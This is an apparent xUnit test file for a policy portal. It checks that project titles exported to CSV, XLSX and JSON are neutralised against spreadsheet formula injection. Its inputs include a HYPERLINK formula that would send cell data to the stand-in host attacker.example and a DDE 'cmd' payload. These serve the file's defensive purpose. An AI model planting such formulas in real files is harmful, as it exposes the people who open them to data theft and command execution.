using System.Text;
using System.Text.Json;
using DocumentFormat.OpenXml.Spreadsheet;
using Microsoft.EntityFrameworkCore;
using SeoulPolicyPortal.Tests.Admin;

namespace SeoulPolicyPortal.Tests.TakeAway;

/// <summary>Whatever an editor types into a title reaches a spreadsheet as text, never as a formula (OWASP CSV injection).</summary>
public sealed class NeutralisationTests
{
    [Fact]
    public async Task FormulaLikeTitles_ComeOutAsTextInEveryDownload()
    {
        using var portal = new AdminPortalFactory();
        var client = await portal.SignedInClientAsync();
        var ids = await portal.WithDbAsync(db => db.Projects.Where(p => p.SeedKey!.StartsWith("p00")).OrderBy(p => p.Id).Select(p => p.Id).Take(6).ToListAsync());
        const string hyperlink = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click for details\")";
        var form = await client.EditFormAsync($"/admin/projects/{ids[0]}/edit");
        using (var saved = await client.SubmitAsync(form, new Dictionary<string, string> { ["Input.Title"] = hyperlink }, "save"))
        {
            await client.FollowAsync(saved);
        }

        // The other leading characters OWASP names, written straight to the database.
        string[] others = ["+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "\tTabbed title", "\rReturned title"];
        await portal.WithDbAsync(async db =>
        {
            for (var i = 0; i < others.Length; i++)
            {
                var project = await db.Projects.SingleAsync(p => p.Id == ids[i + 1]);
                project.Title = others[i];
            }

            await db.SaveChangesAsync();
        });
        string[] titles = [hyperlink, .. others];

        var csvBytes = await client.GetFileAsync("/projects.csv?sort=title");
        var (_, rows) = Downloads.ReadCsv(csvBytes);
        foreach (var title in titles)
        {
            Assert.Contains(rows, r => r[1] == "'" + title);
        }

        Assert.DoesNotContain(rows, r => r.Any(cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0])));
        Assert.Contains("\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"Click for details\"\")\"", Encoding.UTF8.GetString(csvBytes));

        // In a workbook they are inline strings: text as typed (XML reads a line break back as LF), and no formula anywhere.
        var book = Downloads.ReadXlsx(await client.GetFileAsync("/projects.xlsx?sort=title"));
        Assert.True(book.ValidationErrors.Count == 0, string.Join("\n", book.ValidationErrors));
        foreach (var title in titles)
        {
            var cell = Assert.Single(book.DataRows, r => Downloads.Text(r[1]).ReplaceLineEndings("\r") == title)[1];
            Assert.Equal(CellValues.InlineString, cell.DataType!.Value);
            Assert.Null(cell.CellFormula);
        }

        Assert.DoesNotContain(book.DataRows.SelectMany(r => r), c => c.CellFormula is not null);

        // JSON is data, not a spreadsheet: the title as typed.
        var json = JsonDocument.Parse(await client.GetFileAsync("/projects.json")).RootElement;
        Assert.Contains(json.GetProperty("items").EnumerateArray(), i => i.GetProperty("title").GetString() == hyperlink);
    }
}
